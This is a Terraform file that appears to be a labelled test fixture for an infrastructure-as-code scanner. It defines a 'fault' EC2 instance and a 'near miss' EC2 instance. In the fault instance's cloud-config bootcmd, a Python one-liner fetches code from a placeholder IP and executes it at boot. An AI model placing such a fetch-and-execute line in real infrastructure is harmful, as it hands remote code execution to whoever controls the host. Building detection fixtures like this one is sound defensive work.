# A cloud-config list runs Python that fetches code and executes it.
# Source: https://cloudinit.readthedocs.io/en/latest/reference/modules.html (runcmd)
# Fault at: aws_instance.udcc_fault
# Near miss at: aws_instance.udcc_near

resource "aws_kms_key" "udcc_key" {
  description         = "Key for udcc_key"
  enable_key_rotation = true
}

resource "aws_vpc" "udcc_vpc" {
  cidr_block = "10.20.0.0/16"
}

resource "aws_subnet" "udcc_subnet" {
  vpc_id     = aws_vpc.udcc_vpc.id
  cidr_block = "10.20.1.0/24"
}

data "aws_ami" "udcc_ami" {
  owners     = ["self"]
  name_regex = "^shop-prod-base-"
  depends_on = [aws_kms_key.udcc_key]
}

resource "aws_instance" "udcc_fault" {
  ami                  = data.aws_ami.udcc_ami.id
  instance_type        = "m7g.medium"
  subnet_id            = aws_subnet.udcc_subnet.id
  monitoring           = true
  ebs_optimized        = true
  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "required"
    http_put_response_hop_limit = 1
  }
  root_block_device {
    encrypted  = true
    kms_key_id = aws_kms_key.udcc_key.arn
  }
  user_data = join("\n", ["#cloud-config", yamlencode({
    bootcmd = [["python3", "-c", "import urllib.request as u; exec(u.urlopen('http://203.0.113.9/p').read())"]]
  })])
}

resource "aws_instance" "udcc_near" {
  ami                  = data.aws_ami.udcc_ami.id
  instance_type        = "m7g.medium"
  subnet_id            = aws_subnet.udcc_subnet.id
  monitoring           = true
  ebs_optimized        = true
  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "required"
    http_put_response_hop_limit = 1
  }
  root_block_device {
    encrypted  = true
    kms_key_id = aws_kms_key.udcc_key.arn
  }
  user_data = join("\n", ["#cloud-config", yamlencode({
    package_update = true
    packages       = ["python3", "chrony"]
    runcmd         = [["systemctl", "enable", "--now", "chronyd"]]
    write_files    = [{ path = "/etc/shop/env", content = "UPSTREAM=https://api.example.com/execute\n" }]
  })])
}
